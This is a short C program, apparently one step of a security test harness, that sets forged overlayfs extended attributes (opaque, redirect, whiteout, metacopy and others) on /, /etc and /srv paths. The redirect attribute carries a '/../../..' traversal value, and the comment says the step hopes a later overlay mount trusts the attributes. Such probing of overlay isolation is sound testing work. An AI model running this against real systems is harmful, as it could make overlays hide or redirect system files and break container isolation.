// Sets the attributes by which overlays hide, redirect and share files, and hopes that the next step's overlay believes them.
#include "attack.h"
#include <sys/xattr.h>

int main(void) {
    mkdir("/srv/marked", 0755);
    int fd = open("/srv/marked/file", O_WRONLY | O_CREAT, 0644);
    close(fd);
    const char *paths[] = { "/srv", "/etc", "/srv/marked", "/srv/marked/file", "/srv/keep", "/" };
    const char *spaces[] = { "user.overlay.", "trusted.overlay.", "user.overlay.overlay." };
    const char *names[] = { "opaque", "redirect", "metacopy", "origin", "whiteout", "impure", "nlink", "upper", "uuid" };
    for (size_t p = 0; p < sizeof paths / sizeof *paths; p++)
        for (size_t s = 0; s < sizeof spaces / sizeof *spaces; s++)
            for (size_t n = 0; n < sizeof names / sizeof *names; n++) {
                char name[128];
                snprintf(name, sizeof name, "%s%s", spaces[s], names[n]);
                const char *value = strcmp(names[n], "redirect") == 0 ? "/../../.." : "y";
                setxattr(paths[p], name, value, strlen(value), 0);
            }
    return over();
}
